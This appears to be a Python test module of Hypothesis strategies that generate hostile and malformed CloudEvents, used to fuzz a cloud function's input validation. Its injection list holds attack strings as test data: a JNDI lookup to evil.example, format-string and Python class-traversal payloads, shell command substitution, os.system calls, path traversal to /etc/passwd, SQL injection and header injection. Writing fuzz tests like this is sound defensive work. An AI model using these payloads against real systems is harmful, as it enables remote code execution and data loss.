"""Hypothesis strategies for hostile CloudEvents, each labelled with what it may do.

Malformed events (a required field missing or of the wrong JSON type, data that is not JSON or not
base64, non-finite deviations, a lone surrogate escaped in the JSON, bytes that are not UTF-8 inside
otherwise valid JSON, a name longer than Cloud Storage's 1,024 bytes) must never launch. Well-formed
events whose text is hostile (format strings, template syntax, NUL, C0 and C1 controls, bidi
controls, line separators, non-ASCII, long names) may be launched or refused, but a run must carry
the text literally.
"""

from __future__ import annotations

import base64
import json
import math
import uuid
from typing import Any

from cloudevents.http import CloudEvent
from hypothesis import strategies as st

from benchmarks.events import PUBSUB_PUBLISHED, STORAGE_FINALIZED, pubsub_data, storage_object
from benchmarks.hostile import Expect, HostileEvent
from benchmarks.stack import DATA_BUCKET
from local.cloud_event_http import encode

INJECTIONS = (
    "{0.__class__}",
    "{0.__class__.__mro__[1].__subclasses__()}",
    "{uri}",
    "{name}",
    "{generation!r:>99999}",
    "{}",
    "{",
    "}}{{",
    "${HOME}",
    "${jndi:ldap://evil.example/a}",
    "%s%s%s%n",
    "%(name)s",
    "{{7*7}}",
    "{% for x in range(9) %}",
    "$(id)",
    "`id`",
    "__import__('os').system('id')",
    "../../../etc/passwd",
    "'; DROP TABLE runs; --",
    "\u202egnp.exe",
    "\x00\x01\x1b[31m",
    "\r\nX-Injected: yes",
    "Ωμέγα-数据-🚀",
    "\x7f\x85\x9b[2J",  # DEL, NEL, a C1 CSI
    "\u2028\u2029",  # line and paragraph separators
    "\u202a\u202b\u202d\u2066\u2067\u2068\u200e\u200f\u061c",  # bidi embeddings, isolates, marks
    "\ufeff\ufffe\uffff",  # a BOM and noncharacters
)
# Half of a UTF-16 pair: JSON can escape one (\ud800), no UTF-8 text can hold one.
LONE_SURROGATES = ("\ud800", "\udbff", "\udc00", "\udfff")
with_lone_surrogate = st.tuples(
    st.text(max_size=20), st.sampled_from(LONE_SURROGATES), st.text(max_size=20)
).map("".join)
# Inserted inside a JSON string of an otherwise valid document: not UTF-8 at all.
ENCODED_SURROGATE = b"\xed\xa0\x80"  # U+D800 encoded as if it were a character (CESU-8)
INVALID_UTF8 = (b"\xff", b"\xfe\xff", b"\xc0\xaf", ENCODED_SURROGATE, b"\xf4\x90\x80\x80", b"\x80")
# Past Cloud Storage's 1,024-byte limit, counted in bytes: 2-, 3- and 4-byte characters.
overlong_names = st.sampled_from(["n", "ü", "価", "🚀"]).flatmap(
    lambda ch: st.integers(1025 // len(ch.encode()) + 1, 4000 // len(ch.encode())).map(
        lambda n: ch * n
    )
)


hostile_text = st.one_of(
    st.sampled_from(INJECTIONS),
    st.text(max_size=60),
    st.tuples(st.sampled_from(INJECTIONS), st.text(max_size=20)).map("".join),
    st.integers(min_value=900, max_value=3000).map(lambda n: "ü" * n),
    with_lone_surrogate,  # a well-formed event may carry one: it must be refused, with a line
)
not_a_string = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.floats(allow_nan=True, allow_infinity=True),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
)
not_an_int64 = st.one_of(
    st.none(),
    st.booleans(),
    st.floats(allow_nan=True, allow_infinity=True).filter(lambda f: not f.is_integer()),
    st.text(max_size=20).filter(lambda s: not (s.isascii() and s.isdigit())),
    st.integers(max_value=-1),
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.text(max_size=5), st.integers(), max_size=3),
)
not_an_object = st.one_of(
    st.none(),
    st.integers(),
    st.text(max_size=40),
    st.lists(st.integers(), max_size=4),
    st.floats(allow_nan=True),
)
# Fresh ids outside hypothesis's control: its uuids() repeats simple values, and a repeated event
# id is a redelivery (a duplicate), not a new hostile event.
event_ids = st.builds(lambda: f"gen-{uuid.uuid4()}")
modes = st.sampled_from(["binary", "structured"])


def _http(event_id: str, type_: str, data: Any, mode: str) -> tuple[dict[str, str], bytes]:
    """Encode a CloudEvent as the `cloudevents` client does, in the given content mode."""
    attributes = {
        "id": event_id,
        "type": type_,
        "source": "//hostile.example/generated",
        "datacontenttype": "application/json",
    }
    return encode(CloudEvent(attributes, data), structured=mode == "structured")


@st.composite
def wellformed_objects(draw: st.DrawFn) -> HostileEvent:
    """Return a valid finalize event for an eligible object whose name is hostile text."""
    unique, mode = uuid.uuid4(), draw(modes)
    event_id = f"gen-{unique}"
    name = f"incoming/{draw(hostile_text)}.csv"
    # Derived from the fresh uuid so repeated names still make distinct objects (hypothesis
    # repeats simple names often; duplicates would only exercise the 409 path).
    generation = unique.int % (2**63 - 1) + 1
    wire = draw(st.sampled_from([str(generation), generation]))
    data = storage_object(DATA_BUCKET, name, wire)
    headers, body = _http(event_id, STORAGE_FINALIZED, data, mode)
    literal = {"data_uri": f"gs://{DATA_BUCKET}/{name}", "object_name": name}
    return HostileEvent(
        "generated-object", "object", event_id, headers, body, Expect.LITERAL_IF_RUN, literal
    )


@st.composite
def malformed_objects(draw: st.DrawFn) -> HostileEvent:
    """Return a finalize event whose data misses a required field or has a wrong type."""
    event_id, mode = draw(event_ids), draw(modes)
    data: Any = storage_object(DATA_BUCKET, f"incoming/{draw(hostile_text)}.csv", "1")
    breakage = draw(st.sampled_from(
        ["drop", "string", "int64", "not_object", "surrogate", "overlong", "invalid_utf8"]
    ))  # fmt: skip
    if breakage == "drop":
        del data[draw(st.sampled_from(["bucket", "name", "generation"]))]
    elif breakage == "string":
        data[draw(st.sampled_from(["bucket", "name"]))] = draw(st.one_of(not_a_string, st.just("")))
    elif breakage == "int64":
        data["generation"] = draw(not_an_int64)
    elif breakage == "surrogate":  # escaped by the JSON encoder: \udXXX in the body
        data[draw(st.sampled_from(["bucket", "name", "contentType"]))] = draw(with_lone_surrogate)
    elif breakage == "overlong":
        data["name"] = f"incoming/{draw(overlong_names)}.csv"
    elif breakage != "invalid_utf8":
        data = draw(not_an_object)
    headers, body = _http(event_id, STORAGE_FINALIZED, data, mode)
    framework_status = None
    if breakage == "invalid_utf8":
        bad = draw(st.sampled_from(INVALID_UTF8))
        body = body.replace(b"incoming/", b"incoming/" + bad, 1)
        # Structured mode: functions-framework reads the whole body as JSON before the function,
        # and fails (400 and our line). json.loads reads an encoded surrogate (ED A0 80) as one,
        # though ('surrogatepass'): then the function gets it and rejects it (200).
        framework_status = 400 if mode == "structured" and bad != ENCODED_SURROGATE else None
    return HostileEvent(
        f"generated-object-{breakage}", "object", event_id, headers, body, Expect.NO_RUN,
        expect_status=framework_status,
    )  # fmt: skip


@st.composite
def raw_bodies(draw: st.DrawFn) -> HostileEvent:
    """Return a binary-mode delivery whose body is arbitrary bytes (mostly not JSON at all)."""
    event_id = draw(event_ids)
    target = draw(st.sampled_from(["object", "drift"]))
    type_ = STORAGE_FINALIZED if target == "object" else PUBSUB_PUBLISHED
    headers = {
        "ce-id": event_id,
        "ce-type": type_,
        "ce-source": "//hostile.example/raw",
        "ce-specversion": "1.0",
        "content-type": "application/json",
    }
    body = draw(st.binary(min_size=1, max_size=200).filter(_not_a_json_object))
    return HostileEvent(f"generated-raw-{target}", target, event_id, headers, body, Expect.NO_RUN)


def _not_a_json_object(raw: bytes) -> bool:
    """Tell whether bytes fail to parse as a JSON object."""
    try:
        return not isinstance(json.loads(raw), dict)
    except (ValueError, UnicodeDecodeError, RecursionError):
        return True


def _drift_event(
    event_id: str, data: Any, mode: str, expect: Expect, name: str, *, literal: dict | None = None
) -> HostileEvent:
    headers, body = _http(event_id, PUBSUB_PUBLISHED, data, mode)
    return HostileEvent(name, "drift", event_id, headers, body, expect, literal or {})


@st.composite
def wellformed_alerts(draw: st.DrawFn) -> HostileEvent:
    """Return a canonical drift alert above the threshold whose text fields are hostile."""
    event_id, mode = draw(event_ids), draw(modes)
    model = f"{draw(hostile_text)}-{event_id}"  # unique, so the cooldown does not hide a run
    objective = draw(hostile_text)
    alert = {
        "model": model,
        "endpoint": draw(hostile_text),
        "objective": objective,
        "features": [
            {
                "name": draw(hostile_text) or "f",
                "deviation": draw(st.floats(min_value=0.3, max_value=1e300)),
                "threshold": 0.3,
            }
        ],
    }
    data = pubsub_data(json.dumps(alert), event_id)
    literal = {"model": model, "reason": objective}
    return _drift_event(
        event_id, data, mode, Expect.LITERAL_IF_RUN, "generated-alert", literal=literal
    )


ALERT_BREAKAGES = ["model", "features", "feature", "deviation", "surrogate"]
MESSAGE_BREAKAGES = ["not_object", "not_json", "not_base64", "no_message", "no_data",
                     "invalid_utf8"]  # fmt: skip


def _broken_alert(draw: st.DrawFn, event_id: str) -> tuple[str, Any]:
    """Return (breakage, MessagePublishedData) for an alert that must be refused."""
    alert = {
        "model": f"m-{event_id}",
        "objective": "RAW_FEATURE_DRIFT",
        "features": [{"name": "sqft", "deviation": 0.9, "threshold": 0.3}],
    }
    breakage = draw(st.sampled_from(ALERT_BREAKAGES + MESSAGE_BREAKAGES))
    if breakage in ALERT_BREAKAGES:
        _break_field(draw, alert, breakage)
    payload: Any = draw(not_an_object) if breakage == "not_object" else alert
    text = json.dumps(payload, allow_nan=True)  # ensure_ascii: a surrogate stays an escape
    data = pubsub_data(text, event_id)
    if breakage == "invalid_utf8":
        bad = draw(st.sampled_from(INVALID_UTF8))
        data = pubsub_data(text.encode().replace(b'"m-', b'"m-' + bad, 1), event_id)
    elif breakage == "not_json":
        data = pubsub_data(draw(st.binary(max_size=100).filter(_not_a_json_object)), event_id)
    elif breakage == "not_base64":
        data["message"]["data"] = draw(st.text(min_size=1, max_size=40).filter(_not_base64))
    elif breakage == "no_message":
        data = draw(
            st.one_of(
                st.just({"subscription": "s"}), not_an_object.map(lambda value: {"message": value})
            )
        )
    elif breakage == "no_data":
        del data["message"]["data"]
    return breakage, data


def _break_field(draw: st.DrawFn, alert: dict[str, Any], breakage: str) -> None:
    """Break one field of the alert itself."""
    if breakage == "model":
        # Bare integers are left to the corpus (drift-model-number): the parser reads integer ids
        # as text on purpose (deployedModelId), and one known case is enough to track that.
        wrong = not_a_string.filter(lambda v: not (isinstance(v, int) and not isinstance(v, bool)))
        alert["model"] = draw(st.one_of(wrong, st.just("")))
    elif breakage == "features":
        alert["features"] = draw(not_an_object)
    elif breakage == "feature":
        alert["features"] = [draw(not_an_object)]
    elif breakage == "deviation":
        alert["features"][0]["deviation"] = draw(
            st.one_of(
                st.none(),
                st.booleans(),
                st.sampled_from([math.nan, math.inf, -math.inf]),
                st.text(max_size=10).filter(_not_a_number),
                st.lists(st.integers(), max_size=2),
            )
        )
    else:  # a lone surrogate anywhere in the alert, even in a field no route reads
        path = draw(st.sampled_from(["model", "objective", "endpoint", "feature"]))
        if path == "feature":
            alert["features"][0]["name"] = draw(with_lone_surrogate)
        else:
            alert[path] = draw(with_lone_surrogate)


@st.composite
def malformed_alerts(draw: st.DrawFn) -> HostileEvent:
    """Return a messagePublished event whose envelope or alert is malformed."""
    event_id, mode = draw(event_ids), draw(modes)
    breakage, data = _broken_alert(draw, event_id)
    return _drift_event(event_id, data, mode, Expect.NO_RUN, f"generated-alert-{breakage}")


def _not_a_number(text: str) -> bool:
    """Tell whether text is not something float() reads as a finite number."""
    try:
        return not math.isfinite(float(text))
    except ValueError:
        return True


def _not_base64(text: str) -> bool:
    """Tell whether text is not strict base64."""
    try:
        base64.b64decode(text, validate=True)
    except ValueError:
        return True
    return False


FAMILIES = {
    "wellformed-objects": wellformed_objects,
    "malformed-objects": malformed_objects,
    "raw-bodies": raw_bodies,
    "wellformed-alerts": wellformed_alerts,
    "malformed-alerts": malformed_alerts,
}
